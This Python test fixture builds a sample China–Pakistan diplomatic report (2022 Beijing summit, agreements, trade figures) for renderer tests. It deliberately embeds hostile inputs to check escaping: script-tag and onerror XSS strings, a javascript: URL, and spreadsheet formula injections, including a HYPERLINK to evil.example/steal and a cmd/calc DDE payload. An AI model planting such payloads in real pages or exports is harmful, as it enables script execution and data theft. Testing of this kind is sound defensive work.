"""A hand-built China–Pakistan report for the renderer tests (before any store is involved).

Realistic content: the 2022-11-02 summit in Beijing reported by several outlets, six
agreements, statements, the 2021 trade figures, plus hostile text: a title containing
``<script>``, an HTML ``onerror`` attribute, a ``javascript:`` source URL and spreadsheet
formulas.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from datetime import UTC, date, datetime, timedelta
from typing import Any

from events import DIPLOMATIC_TYPES
from events.codes import code_for
from tracker.exports.report import Filters, Report
from tracker.projections.model import (
    DescriptorChange,
    MonthlyScore,
    PersonRef,
    RelationshipView,
    Source,
    TimelineEntry,
)

HOSTILE_TITLE = "<script>alert(1)</script>"
PWN_TITLE = "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
PWN_SCRIPT = "<script>document.body.setAttribute('data-pwned','1')</script>"
FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'

CGTN = Source(
    url="https://www.prnewswire.com/news-releases/cgtn-china-pakistan-vow-to-inject-new-impetus.html",
    title="CGTN: China, Pakistan vow to inject new impetus into all-weather partnership",
    outlet="CGTN",
    article_id="a-cgtn",
    quote="China and Pakistan on Wednesday vowed to make joint efforts",
)
XINHUA = Source(
    url="https://english.news.cn/20221102/xi-meets-pakistani-pm/c.html",
    title="Xi meets Pakistani prime minister",
    outlet="Xinhua",
    article_id="a-xinhua",
)
DAWN = Source(
    url="https://www.dawn.com/news/1718720/pm-shehbaz-meets-xi",
    title="PM Shehbaz meets President Xi in Beijing, hails 'iron-clad' friendship",
    outlet="Dawn",
    article_id="a-dawn",
)
HOSTILE = Source(
    url="https://news.example.org/2022/11/agreements?x=1&y=<b>",
    title=HOSTILE_TITLE,
    outlet="Example News",
    article_id="a-hostile",
)
PWN = Source(url="javascript:document.body.setAttribute('data-pwned','1')", title=PWN_TITLE)

XI = PersonRef("Xi Jinping", "President", "CHN")
SHARIF = PersonRef("Muhammad Shehbaz Sharif", "Prime Minister", "PAK")
BASE = datetime(2022, 11, 3, 9, 0, tzinfo=UTC)


def _entry(
    n: int,
    kind: str,
    on: date | None,
    summary: str,
    sources: tuple[Source, ...],
    *,
    actors: tuple[str, ...] = ("CHN", "PAK"),
    persons: tuple[PersonRef, ...] = (),
    details: dict[str, Any] | None = None,
    location: str | None = None,
    planned: bool = False,
    precision: str | None = "day",
    confidence: float = 0.9,
) -> TimelineEntry:
    details = details or {}
    codes = code_for(kind, details.get("stance"))
    return TimelineEntry(
        event_id=f"00000000-0000-4000-8000-{n:012d}",
        type=DIPLOMATIC_TYPES[kind].type_name,
        kind=kind,
        pair=("CHN", "PAK"),
        actors=actors,
        occurred_on=on,
        date_precision=precision if on else None,
        planned=planned,
        summary=summary,
        persons=persons,
        location=location,
        details=details,
        cameo=codes.cameo,
        plover=codes.plover,
        goldstein=codes.goldstein,
        confidence=confidence,
        sources=sources,
        recorded_at=BASE + timedelta(minutes=n),
        position=n,
    )


SUMMIT = date(2022, 11, 2)
AREAS = (
    "digital economy",
    "e-commerce",
    "photovoltaic and new-energy technologies",
    "agriculture",
    "science and technology",
    "CPEC",
)


def sample_entries() -> tuple[TimelineEntry, ...]:
    """The timeline, oldest first."""
    entries = [
        _entry(
            1,
            "phone_call",
            date(2022, 4, 18),
            "Xi Jinping congratulated Shehbaz Sharif on his election by telephone",
            (XINHUA,),
            persons=(XI, SHARIF),
        ),
        _entry(
            2,
            "statement",
            date(2022, 7, 5),
            FORMULA,
            (Source(url="https://example.com/spreadsheet", title="+cmd|' /C calc'!A0"),),
            actors=("PAK", "CHN"),
            details={"speaker": None, "stance": "critical", "topics": ["@SUM(1+1)"], "quote": None},
            confidence=0.4,
        ),
        _entry(
            3,
            "visit",
            date(2022, 11, 1),
            "Prime Minister Shehbaz Sharif arrived in Beijing for his first visit to China",
            (DAWN,),
            actors=("PAK", "CHN"),
            persons=(SHARIF,),
            location="Beijing",
        ),
        _entry(
            4,
            "meeting",
            SUMMIT,
            "Xi Jinping met Shehbaz Sharif in Beijing; both vowed to inject new impetus",
            (CGTN, XINHUA, DAWN),
            persons=(XI, SHARIF),
            location="Great Hall of the People, Beijing",
            confidence=0.95,
        ),
    ]
    for i, area in enumerate(AREAS):
        title = HOSTILE_TITLE if area == "e-commerce" else f"MoU on cooperation in {area}"
        entries.append(
            _entry(
                5 + i,
                "agreement",
                SUMMIT,
                f"China and Pakistan signed an agreement on {area}",
                (CGTN, HOSTILE) if area == "e-commerce" else (CGTN,),
                details={"area": area, "title": title},
            )
        )
    entries += [
        _entry(
            11,
            "statement",
            SUMMIT,
            "Xi: Pakistan has always been a high priority in China's neighborhood diplomacy",
            (CGTN, XINHUA),
            persons=(XI,),
            details={
                "speaker": {"name": "Xi Jinping", "title": "President", "country": "CHN"},
                "stance": "supportive",
                "topics": ["CPEC", "neighborhood diplomacy"],
                "quote": "Pakistan has always been a high priority",
            },
        ),
        _entry(
            12,
            "statement",
            SUMMIT,
            PWN_SCRIPT + " Sharif reiterated firm commitment to the one-China policy",
            (PWN, CGTN),
            actors=("PAK", "CHN"),
            persons=(SHARIF,),
            details={
                "speaker": {"name": "Muhammad Shehbaz Sharif", "title": None, "country": "PAK"},
                "stance": "supportive",
                "topics": ["one-China policy", "Taiwan", "Xinjiang"],
                "quote": 'The Pakistan-China friendship is unbreakable, a "testament"',
            },
        ),
        _entry(
            13,
            "joint_statement",
            SUMMIT,
            "Joint statement on deepening the all-weather strategic cooperative partnership",
            (CGTN,),
            details={
                "topics": ["core interests", "strategic communication"],
                "areas": ["agriculture", "mining", "IT", "socio-economic development"],
            },
        ),
        _entry(
            14,
            "trade_figure",
            SUMMIT,
            "Trade between China and Pakistan reached $27.82 billion last year, up 59.1%",
            (CGTN,),
            details={
                "amount": 27.82,
                "currency": "USD",
                "unit": "billion",
                "period": "2021",
                "direction": "total",
                "change_pct": 59.1,
            },
        ),
        _entry(
            15,
            "trade_figure",
            SUMMIT,
            "Chinese exports to Pakistan totaled $24.23 billion,\nup 57.8%",
            (CGTN,),
            details={
                "amount": 24.23,
                "currency": "USD",
                "unit": "billion",
                "period": "2021",
                "direction": "exports",
                "change_pct": 57.8,
            },
        ),
        _entry(
            16,
            "descriptor",
            SUMMIT,
            "The sources call it an all-weather strategic cooperative partnership",
            (CGTN,),
            details={"descriptor": "all-weather strategic cooperative partnership"},
        ),
        _entry(
            17,
            "visit",
            date(2023, 7, 1),
            "Vice Premier He Lifeng to visit Islamabad for the 10th anniversary of CPEC",
            (DAWN,),
            persons=(PersonRef("He Lifeng", "Vice Premier", "CHN"),),
            planned=True,
            precision="month",
        ),
        _entry(
            18,
            "meeting",
            None,
            "Officials met on the sidelines, date not reported",
            (XINHUA,),
            confidence=0.5,
        ),
    ]
    return tuple(entries)


def _scores(entries: tuple[TimelineEntry, ...]) -> tuple[MonthlyScore, ...]:
    sums: dict[str, list[float]] = defaultdict(list)
    for e in entries:
        if e.occurred_on and not e.planned:
            sums[e.occurred_on.strftime("%Y-%m")].append(e.goldstein)
    return tuple(MonthlyScore(m, round(sum(v), 2), len(v)) for m, v in sorted(sums.items()))


def sample_view(entries: tuple[TimelineEntry, ...] | None = None) -> RelationshipView:
    """The relationship view matching ``sample_entries``."""
    entries = entries if entries is not None else sample_entries()
    by_id = {e.position: e for e in entries}
    dated = [e.occurred_on for e in entries if e.occurred_on and not e.planned]
    return RelationshipView(
        pair=("CHN", "PAK"),
        names=("China", "Pakistan"),
        counts=dict(Counter(e.kind for e in entries)),
        first_date=min(dated),
        last_date=max(dated),
        last_meeting=by_id[4],
        last_leader_contact=by_id[4],
        agreements=tuple(e for e in entries if e.kind == "agreement"),
        statements={
            "CHN": {"CPEC": by_id[11], "neighborhood diplomacy": by_id[11]},
            "PAK": {"one-China policy": by_id[12], "@SUM(1+1)": by_id[2]},
        },
        trade=(by_id[14], by_id[15]),
        descriptor="all-weather strategic cooperative partnership",
        descriptor_history=(
            DescriptorChange(
                "all-weather strategic cooperative partnership", SUMMIT, by_id[16].event_id, CGTN
            ),
        ),
        monthly_scores=_scores(entries),
        trend=0.85,
        planned=(by_id[17],),
        as_of=None,
        position=18,
    )


def sample_report(**filters: Any) -> Report:
    """The whole sample report, generated at a fixed moment."""
    entries = sample_entries()
    return Report(
        view=sample_view(entries),
        entries=entries,
        filters=Filters(**filters),
        generated_at=datetime(2022, 11, 4, 12, 0, tzinfo=UTC),
    )


def empty_report() -> Report:
    """A relationship with nothing recorded (or nothing matching the filters)."""
    view = RelationshipView(
        pair=("CHN", "PAK"),
        names=("China", "Pakistan"),
        counts={},
        first_date=None,
        last_date=None,
        last_meeting=None,
        last_leader_contact=None,
        agreements=(),
        statements={},
        trade=(),
        descriptor=None,
        descriptor_history=(),
        monthly_scores=(),
        trend=None,
    )
    return Report(view=view, entries=(), generated_at=datetime(2022, 11, 4, 12, 0, tzinfo=UTC))
